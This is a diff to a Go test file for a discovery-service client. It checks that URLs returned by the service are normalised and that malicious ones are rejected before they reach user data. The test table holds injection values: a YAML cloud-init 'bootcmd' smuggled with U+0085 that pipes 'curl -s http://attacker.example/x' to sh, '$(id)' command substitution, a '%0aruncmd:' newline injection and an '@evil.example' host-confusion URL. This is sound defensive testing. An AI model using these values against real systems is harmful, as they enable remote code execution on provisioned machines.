@@ -141,34 +141,49 @@ func TestServiceAnswers(t *testing.T) {
 	}
 }
 
-// The URL bears the host that the service was configured with, and is taken as
-// it is; the service is still asked where it was reached.
-func TestServiceOtherHost(t *testing.T) {
-	service := etcdtest.NewDiscoveryService(t, nil)
-	other := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
-		_, _ = io.WriteString(w, "https://discovery.example/"+token3+"\n")
-	}))
-	defer other.Close()
-	place := mustCreate(t, NewService(settings(), other.URL), "", 3)
-	if want := (Place{Token: token3, URL: "https://discovery.example/" + token3}); place != want {
-		t.Errorf("got %+v, want %+v", place, want)
-	}
-	request(t, http.MethodPut, service.Registry+"/"+token3+"/_config/size", "value=3")
-	if got := mustStatus(t, NewService(settings(), service.URL), token3); got.Size != 3 {
-		t.Errorf("got %+v", got)
+// A service's answer goes into user data. So the URL is written anew, and it is
+// one of that service: another host would be one that nobody named.
+func TestServiceAnswerIsData(t *testing.T) {
+	var body string
+	server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) { _, _ = io.WriteString(w, body) }))
+	defer server.Close()
+	host := strings.TrimPrefix(server.URL, "http://")
+	for answer, want := range map[string]string{
+		server.URL + "/" + token3:                       server.URL + "/" + token3,
+		" " + server.URL + "/of/mine/" + token3 + "/\n": server.URL + "/of/mine/" + token3,
+		"HTTP://" + host + "//of/%6dine/" + token3:      server.URL + "/of/mine/" + token3,
+		// The proof of the finding: to YAML, U+0085 is a line break.
+		server.URL + "/x\u0085bootcmd:\u0085- [ sh, -c, 'curl -s http://attacker.example/x | sh' ]\u0085write_files:\u0085  - path: /run/x/" + token3: "",
+		server.URL + "/$(id)/" + token3:              "",
+		server.URL + "/a b/" + token3:                "",
+		server.URL + "/é/" + token3:                  "",
+		server.URL + "/%0aruncmd:/" + token3:         "",
+		server.URL + "/" + token3 + "?x=1":           "",
+		"https://" + host + "/" + token3:             "",
+		"http://discovery.example/" + token3:         "",
+		"http://" + host + "@evil.example/" + token3: "",
+	} {
+		body = answer
+		place, err := NewService(settings(), server.URL).Create(t.Context(), "", 3)
+		if (err == nil) != (want != "") || place.URL != want || want != "" && place.Token != token3 {
+			t.Errorf("%q: %+v, %v; want %q", answer, place, err, want)
+		}
 	}
 }
 
 func TestServiceURLProblems(t *testing.T) {
 	for base, want := range map[string]Problem{
-		"https://discovery.example":        "",
-		"http://10.0.0.1:8087/discovery":   "",
-		"discovery.example":                `does not begin with "http://" or "https://"`,
-		"https://":                         "has no host",
-		"https://discovery.example/":       `ends with "/"`,
-		"https://discovery.example?size=3": "holds more than scheme, host and path",
-		"https://u:p@discovery.example":    "holds more than scheme, host and path",
-		"https://discovery.example/%zz":    "is not a URL",
+		"https://discovery.example":         "",
+		"http://10.0.0.1:8087/discovery":    "",
+		"discovery.example":                 `does not begin with "http://" or "https://"`,
+		"https://":                          "has no host",
+		"https://discovery.example/":        `ends with "/"`,
+		"https://discovery.example?size=3":  "holds more than scheme, host and path",
+		"https://u:p@discovery.example":     "holds more than scheme, host and path",
+		"https://discovery.example/%zz":     "is not a URL",
+		"https://$(id)":                     "has a host that is neither an IP address nor a host name",
+		"https://discovery.example/a%20b":   "contains a space",
+		"https://discovery.example/\u0085x": "contains '\\u0085'",
 	} {
 		if got := ServiceURLProblem(base); got != want {
 			t.Errorf("%q: got %q, want %q", base, got, want)
